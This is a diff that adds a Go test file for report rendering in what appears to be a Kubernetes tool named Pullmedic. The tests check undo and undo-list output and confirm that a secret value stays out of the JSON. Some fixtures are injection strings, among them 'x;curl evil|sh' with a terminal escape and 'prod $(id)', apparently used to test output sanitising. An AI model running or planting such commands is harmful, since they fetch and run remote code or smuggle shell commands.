@@ -1,0 +1,78 @@
+// Copyright 2026 The Pullmedic Authors
+// SPDX-License-Identifier: Apache-2.0
+
+package report_test
+
+import (
+	"bytes"
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/pullmedic/pullmedic/api/v1alpha1"
+	"github.com/pullmedic/pullmedic/internal/mend"
+	"github.com/pullmedic/pullmedic/internal/remedy"
+	"github.com/pullmedic/pullmedic/internal/report"
+	"github.com/pullmedic/pullmedic/internal/report/schematest"
+)
+
+// someUndo has a change in each standing.
+func someUndo() mend.Undo {
+	var r mend.Record
+	r.ID, r.Namespace, r.State = "20261121-034102-k3x7q2m4n5pa", "shop", mend.State(mend.Mended)
+	r.Time, r.Target, r.Cause, r.Remedy = ago(9*time.Minute), "deployment/api", "CredentialsInvalid", "secret-entry"
+	r.Title, r.Evicts = "Rewrite the entry of registry.example in secret hub", 2
+	object := func(kind, name string) remedy.Object { return remedy.Object{Kind: kind, Namespace: "shop", Name: name} }
+	return mend.Undo{Record: r, Backs: []mend.Back{
+		{Object: object("Deployment", "api"), Standing: mend.Stands, Edits: []remedy.Edit{
+			{Path: "/spec/template/spec/containers/0/name", Old: "app", New: "app"},
+			{Path: "/spec/template/spec/containers/0/image", Old: "registry.example/acme/api:1.27.4", New: "registry.example/acme/a-team-with-a-long-name/api:1.27.44"},
+			{Path: "/spec/template/spec/imagePullSecrets", Old: []any{map[string]any{"name": "hub-2"}}},
+		}},
+		{Object: object("Secret", "hub"), Standing: mend.Stands, Edits: []remedy.Edit{{Path: "/data/.dockerconfigjson", Old: "canary", New: "canary-2", Hidden: true}}},
+		{Object: object("Secret", "hub-2"), Standing: mend.Stands, Removes: true},
+		{Object: object("Secret", "hub-3"), Standing: mend.NotOurs, Removes: true},
+		{Object: object("ServiceAccount", "app"), Standing: mend.AsBefore},
+		{Object: object("CronJob", "nightly"), Standing: mend.Gone},
+	}}
+}
+
+func TestUndoText(t *testing.T) {
+	u := someUndo()
+	doc := report.NewUndo(now(), u)
+	var out bytes.Buffer
+	check := func(err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	check(report.UndoText(&out, doc, report.Style{}))
+	doc.Outcome = v1alpha1.UndoUndone
+	check(report.UndoneText(&out, doc, report.Style{}))
+	u.Backs = append(u.Backs, mend.Back{Object: u.Backs[0].Object, Standing: mend.Altered, Fields: []string{"/spec/template/spec/containers/0/image"}}, mend.Back{Object: u.Backs[1].Object, Standing: mend.Lost})
+	doc = report.NewUndo(now(), u)
+	doc.Outcome, doc.Why = v1alpha1.UndoRefused, u.Blocked().Error()
+	out.WriteString("\n")
+	check(report.UndoText(&out, doc, report.Style{}))
+	check(report.UndoneText(&out, doc, report.Style{}))
+	golden(t, "undo.txt", out.Bytes())
+
+	out.Reset()
+	check(report.Encode(&out, report.JSON, doc))
+	schematest.Check(t, out.Bytes())
+	if strings.Contains(out.String(), "canary") {
+		t.Error("the document shows a secret")
+	}
+	r, killed := u.Record, u.Record
+	killed.State, killed.Title = mend.Written, "x;curl evil|sh\x1b[2J"
+	list := report.NewUndoList(now(), []mend.Record{r, killed}, []error{errors.New("configmap x in namespace shop is no record that fix wrote")}, true)
+	out.Reset()
+	check(report.Encode(&out, report.JSON, list))
+	schematest.Check(t, out.Bytes())
+	out.Reset()
+	check(report.UndoListText(&out, list, report.Style{Flags: []string{"--probe", "none", "--context", "prod $(id)", "--allow-loopback"}}))
+	check(report.UndoListText(&out, report.NewUndoList(now(), nil, nil, false), report.Style{}))
+	golden(t, "undo-list.txt", out.Bytes())
+}
